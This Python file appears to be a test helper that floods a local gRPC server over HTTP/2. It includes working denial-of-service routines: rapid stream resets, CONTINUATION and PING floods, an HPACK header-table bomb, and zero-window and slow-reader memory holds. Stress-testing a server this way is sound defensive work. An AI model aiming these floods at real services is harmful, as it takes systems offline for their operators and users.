"""A hostile client: `flooder.py KIND PORT` does the same harmful thing again and again until it is killed.

Prints a line when the first attack has been sent. A connection that the server ends is opened again at once.
"""

from __future__ import annotations

import contextlib
import functools
import itertools
import signal
import socket
import sys
from typing import TYPE_CHECKING

from protocols.grpc.generated.grpc_service_pb2 import ModelInferRequest
from protocols.grpc.h2 import frames
from protocols.grpc.h2.frames import H2ErrorCode, Setting
from protocols.grpc.h2.headers import encode_block

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

GREETING = frames.PREFACE + frames.settings([])
FIELDS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/inference.GRPCInferenceService/ModelInfer"),
    (":authority", "a"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
BLOCK = encode_block(FIELDS)

#: What is given to the socket at once.
BATCH = 1000


def begin(number: int, *, ended: bool = False) -> bytes:
    return frames.headers(number, BLOCK, max_byte_size=2**14, end_stream=ended)


@functools.cache
def content_of_request(model: str, byte_size: int) -> bytes:
    tensor = ModelInferRequest.InferInputTensor(name="IN", datatype="UINT8", shape=[byte_size])
    message = ModelInferRequest(model_name=model, inputs=[tensor], raw_input_contents=[bytes(byte_size)])
    content = message.SerializeToString()
    return bytes(1) + len(content).to_bytes(4, "big") + content


def request(number: int, model: str, byte_size: int) -> bytes:
    """Return a whole ModelInfer call."""
    content = content_of_request(model, byte_size)
    parts = [begin(number)]
    for start in range(0, len(content), 2**14):
        part = content[start : start + 2**14]
        last = start + 2**14 >= len(content)
        parts += (frames.frame_header(len(part), frames.DATA, frames.END_STREAM if last else 0, number), part)
    return b"".join(parts)


def numbers() -> Iterator[int]:
    return itertools.count(1, 2)


# ---- what is sent on one connection, in batches without an end ------------------------------


def rapid_reset() -> Iterator[bytes]:
    each = numbers()
    while True:
        yield b"".join(begin(n) + frames.rst_stream(n, H2ErrorCode.CANCEL) for n in itertools.islice(each, BATCH))


def settings() -> Iterator[bytes]:
    yield from itertools.repeat(frames.settings([(Setting.INITIAL_WINDOW_SIZE, 2**16)]) * BATCH)


def pings() -> Iterator[bytes]:
    yield from itertools.repeat(frames.PING_REQUEST * BATCH)


def empty_frames() -> Iterator[bytes]:
    yield begin(1)
    yield from itertools.repeat(frames.frame_header(0, frames.DATA, 0, 1) * BATCH)


def useless_frames() -> Iterator[bytes]:
    yield begin(1)
    yield from itertools.repeat((frames.frame_header(5, frames.PRIORITY, 0, 1) + bytes(5)) * BATCH)


def continuation() -> Iterator[bytes]:
    yield frames.frame_header(len(BLOCK), frames.HEADERS, 0, 1) + BLOCK
    yield from itertools.repeat(frames.frame_header(0, frames.CONTINUATION, 0, 1) * BATCH)


def endless_header() -> Iterator[bytes]:
    """One large entry of the table, and then references to it: a few bytes that stand for megabytes."""
    entry = b"\x40\x01x\x7f\x81\x1e" + bytes(4000).replace(b"\0", b"a")
    block = BLOCK + entry + b"\xbe" * 10_000
    yield from itertools.repeat(frames.frame_header(len(block), frames.HEADERS, frames.END_HEADERS, 1) + block)


def zero_window() -> Iterator[bytes]:
    """Large answers that the client's window never lets go."""
    yield frames.settings([(Setting.INITIAL_WINDOW_SIZE, 0)])
    for number in itertools.islice(numbers(), 32):
        yield request(number, "attacked", 2**18)
    hold()


def slow_reader() -> Iterator[bytes]:
    """Answers that the client's socket never takes."""
    yield frames.settings([(Setting.INITIAL_WINDOW_SIZE, 2**30)]) + frames.window_update(0, 2**30)
    for number in itertools.islice(numbers(), 800):
        yield request(number, "attacked", 2**14)
    hold()


def request_storm() -> Iterator[bytes]:
    """Well-formed requests, more than the server can answer."""
    each = numbers()
    while True:
        yield b"".join(request(number, "attacked", 16) for number in itertools.islice(each, 200))


def connections() -> Iterator[bytes]:
    """A connection for each request."""
    yield request(1, "attacked", 16)


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    found.__name__: found
    for found in (
        rapid_reset,
        settings,
        pings,
        empty_frames,
        useless_frames,
        continuation,
        endless_header,
        zero_window,
        slow_reader,
        request_storm,
        connections,
    )
}

#: Only this one takes the answers; the others leave them to the server.
READERS = {"request_storm"}


def hold() -> None:
    """Keep the connection until the process is killed."""
    while True:
        signal.pause()


def attack(kind: str, port: int) -> Iterator[None]:
    """Yield after every batch that was sent, on one connection after the other."""
    while True:
        with contextlib.suppress(OSError), socket.socket() as sock:
            if kind not in READERS:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.connect(("127.0.0.1", port))
            sock.sendall(GREETING)
            for batch in KINDS[kind]():
                sock.sendall(batch)
                yield
                if kind in READERS:
                    take_what_is_there(sock)


def take_what_is_there(sock: socket.socket) -> None:
    with contextlib.suppress(BlockingIOError):
        while sock.recv(2**20, socket.MSG_DONTWAIT):
            pass


def main() -> None:
    kind, port = sys.argv[1], int(sys.argv[2])
    attacks = attack(kind, port)
    next(attacks)
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    for _ in attacks:
        pass


if __name__ == "__main__":
    main()
